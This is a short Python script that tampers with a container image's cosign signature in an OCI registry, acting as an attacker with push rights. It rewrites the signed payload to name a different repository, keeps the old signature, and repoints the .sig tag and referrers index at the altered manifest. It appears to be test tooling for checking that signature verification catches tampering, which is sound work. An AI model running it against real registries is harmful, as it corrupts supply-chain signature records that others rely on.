#!/usr/bin/python3
"""Tampers with an image's cosign signature in the registry, as an attacker with
push rights would: the signed payload is changed (it names another repository),
the old signature kept, and the .sig tag and the referrers tag point to the result.

usage: cosign_tamper.py REGISTRY REPO DIGEST
"""
import hashlib, json, sys, urllib.request

MT = "application/vnd.oci.image.manifest.v1+json"


def req(method, url, body=None, ct=None):
    h = {"Accept": MT + ", application/vnd.oci.image.index.v1+json"}
    if ct:
        h["Content-Type"] = ct
    r = urllib.request.urlopen(urllib.request.Request(url, data=body, method=method, headers=h))
    return r.read(), r.headers


def main():
    reg, repo, digest = sys.argv[1:4]
    base = "http://%s/v2/%s" % (reg, repo)
    tag = "sha256-" + digest.split(":")[1]
    old, _ = req("GET", "%s/manifests/%s.sig" % (base, tag))
    m = json.loads(old)
    layer = m["layers"][0]
    payload = json.loads(req("GET", "%s/blobs/%s" % (base, layer["digest"]))[0])
    payload["critical"]["identity"]["docker-reference"] = "%s/evil/elsewhere" % reg
    blob = json.dumps(payload).encode()
    d = "sha256:" + hashlib.sha256(blob).hexdigest()
    _, h = req("POST", "%s/blobs/uploads/" % base)
    loc = h["Location"]
    req("PUT", "%s%sdigest=%s" % (loc, "&" if "?" in loc else "?", d), blob,
        "application/octet-stream")
    layer["digest"], layer["size"] = d, len(blob)
    new = json.dumps(m).encode()
    req("PUT", "%s/manifests/%s.sig" % (base, tag), new, MT)
    nd = "sha256:" + hashlib.sha256(new).hexdigest()
    od = "sha256:" + hashlib.sha256(old).hexdigest()
    index = json.loads(req("GET", "%s/manifests/%s" % (base, tag))[0])
    for e in index["manifests"]:
        if e["digest"] == od:
            e["digest"], e["size"] = nd, len(new)
    req("PUT", "%s/manifests/%s" % (base, tag), json.dumps(index).encode(),
        "application/vnd.oci.image.index.v1+json")
    print("tampered: %s -> %s" % (od, nd))


if __name__ == "__main__":
    main()
